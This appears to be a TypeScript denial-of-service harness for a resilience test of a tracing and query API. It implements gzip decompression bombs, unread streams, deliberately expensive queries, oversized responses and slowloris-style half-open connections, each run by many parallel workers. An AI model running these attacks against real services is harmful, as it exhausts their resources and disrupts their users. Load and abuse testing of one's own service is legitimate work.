import { Agent, request } from "node:http";
import type { IncomingMessage } from "node:http";
import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { gzipSync } from "node:zlib";

// The attacks of neighbour.ts. As a program: gets an attack by message, and repeats it until it is told to stop.

/** What is attacked, with which key, and large data that the key may read. */
export interface Target {
  url: string;
  key: string;
  /** Of an object of 6 MB. */
  ref: string;
  /** Digest of a table with rows of 6 MB. */
  table: string;
}

/** How often the attacker got each status; `cut` for connections that the service closed. */
export type AttackReport = Record<string, number>;

type Attack = (target: Target) => Promise<void>;
export type AttackName = "bombs" | "unread streams" | "dear queries" | "giant responses" | "half-open connections";

const report: AttackReport = {};
const agent = new Agent({ keepAlive: true });
const projectId = "attacker/app";

/** Each is run by so many workers at once, again and again. */
export const attacks: Record<AttackName, { workers: number; run: Attack }> = {
  bombs: { workers: 4, run: sendBomb },
  "unread streams": { workers: 20, run: leaveStreamUnread },
  "dear queries": { workers: 8, run: askDearly },
  "giant responses": { workers: 12, run: askForGiants },
  "half-open connections": { workers: 200, run: leaveHalfOpen },
};

function count(status: number | string): void {
  report[status] = (report[status] ?? 0) + 1;
}

/** Sends a request and resolves with its response, whose body nobody reads; undefined when the connection is cut. */
function post(
  { url, key }: Target,
  path: string,
  body: Buffer | object,
  headers: Record<string, string> = {},
): Promise<IncomingMessage | undefined> {
  const bytes = Buffer.isBuffer(body) ? body : Buffer.from(JSON.stringify({ project_id: projectId, ...body }));
  return new Promise((resolve) => {
    const all = { authorization: `Bearer ${key}`, "content-type": "application/json", ...headers };
    const outgoing = request(`${url}${path}`, { method: "POST", agent, headers: all }, (response) => {
      count(response.statusCode ?? 0);
      response.on("error", () => count("cut"));
      resolve(response);
    });
    outgoing.on("error", () => {
      count("cut");
      resolve(undefined);
    });
    outgoing.end(bytes);
  });
}

async function readAll(response: IncomingMessage | undefined): Promise<void> {
  if (response === undefined) return;
  await new Promise<void>((resolve) => response.on("close", resolve).resume());
}

const varint = (value: number): number[] => (value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)]);
const nested = (number: number, bytes: Buffer) =>
  Buffer.concat([Buffer.from([number * 8 + 2, ...varint(bytes.length)]), bytes]);
const emptySpans = (bytes: number) => gzipSync(nested(1, nested(2, Buffer.alloc(bytes, Buffer.from([18, 0])))));
const bombs = [
  { bytes: emptySpans(33_000_000), type: "application/x-protobuf" },
  { bytes: emptySpans(2_000_000), type: "application/x-protobuf" },
  { bytes: emptySpans(38_000), type: "application/x-protobuf" },
  {
    bytes: gzipSync(`{"resourceSpans":[{"scopeSpans":[{"spans":[${"{},".repeat(10_000_000)}{}]}]}]}`),
    type: "application/json",
  },
];
let next = 0;

async function sendBomb(target: Target): Promise<void> {
  const { bytes, type } = bombs[next++ % bombs.length] ?? { bytes: Buffer.alloc(0), type: "" };
  const headers = { "content-type": type, "content-encoding": "gzip", project_id: projectId };
  await readAll(await post(target, "/otel/v1/traces", bytes, headers));
}

const expanded = { expand_columns: ["inputs.model"] };

/** Until the service cuts it. */
async function leaveStreamUnread(target: Target): Promise<void> {
  const response = await post(target, "/calls/stream_query", next++ % 2 === 0 ? {} : expanded);
  if (response?.statusCode !== 200) return await readAll(response);
  await delay(60_000);
}

const contains = (n: number) => ({
  $contains: { input: { $getField: "inputs.messages" }, substr: { $literal: `word ${n}` } },
});
const deep = Array.from({ length: 8 }, (_, n) => ["inputs", ...Array.from({ length: n + 1 }, () => "model")].join("."));
const dearQueries: ReadonlyArray<readonly [path: string, body: object]> = [
  ["/calls/query_stats", { query: { $expr: { $or: Array.from({ length: 1200 }, (_, n) => contains(n)) } } }],
  ["/calls/query", { sort_by: [{ field: "inputs.messages", direction: "asc" }], limit: 100 }],
  [
    "/calls/query_stats",
    {
      query: { $expr: { $eq: [{ $getField: `${deep.at(-1)}.x` }, { $literal: 1 }] } },
      expand_columns: deep,
    },
  ],
  [
    "/calls/query_stats",
    {
      query: {
        $expr: {
          $in: [{ $getField: "inputs.model" }, Array.from({ length: 5000 }, (_, n) => ({ $literal: `model ${n}` }))],
        },
      },
    },
  ],
];

async function askDearly(target: Target): Promise<void> {
  const [path, body] = dearQueries[next++ % dearQueries.length] ?? ["", {}];
  await readAll(await post(target, path, body));
}

/** Every third response is read; the others are left until the service cuts them. */
async function askForGiants(target: Target): Promise<void> {
  const refs = (times: number) => ({ refs: Array.from({ length: times }, () => target.ref) });
  const giants: ReadonlyArray<readonly [path: string, body: object]> = [
    ["/refs/read_batch", refs(80)],
    ["/refs/read_batch", refs(10)],
    ["/calls/query", { ...expanded, limit: 8 }],
    ["/table/query", { digest: target.table }],
    ["/objs/query", {}],
  ];
  const turn = next++;
  const [path, body] = giants[turn % giants.length] ?? ["", {}];
  const response = await post(target, path, body);
  if (response?.statusCode === 200 && turn % 3 > 0) await delay(60_000);
  else await readAll(response);
}

const unfinished = Buffer.alloc(20_000_000, " ");

/** Headers that never end, and bodies of which the last byte never comes. */
async function leaveHalfOpen({ url, key }: Target): Promise<void> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  const closed = new Promise<void>((resolve) => socket.on("close", () => resolve()));
  socket.on("error", () => {});
  socket.once("data", (data) => count(/^HTTP\/1\.1 (\d+)/.exec(data.toString())?.[1] ?? "?"));
  const start = `POST /call/upsert_batch HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${key}\r\n`;
  if (next++ % 5 === 0) {
    socket.write(`${start}content-type: application/json\r\ncontent-length: 33000000\r\n\r\n`);
    socket.write(unfinished);
  } else {
    socket.write(start);
  }
  await Promise.race([closed, delay(60_000)]);
  if (!socket.destroyed) socket.destroy();
  else count("cut");
}

interface Start {
  name: AttackName;
  target: Target;
}

process.on("message", (message: Start | "stop") => {
  if (message === "stop") {
    process.send?.(report);
    return;
  }
  const { workers, run } = attacks[message.name];
  const repeat = async () => {
    for (;;) {
      await run(message.target);
      // What is refused at once is not repeated faster than a client could.
      await delay(20);
    }
  };
  for (let worker = 0; worker < workers; worker++) void repeat();
});
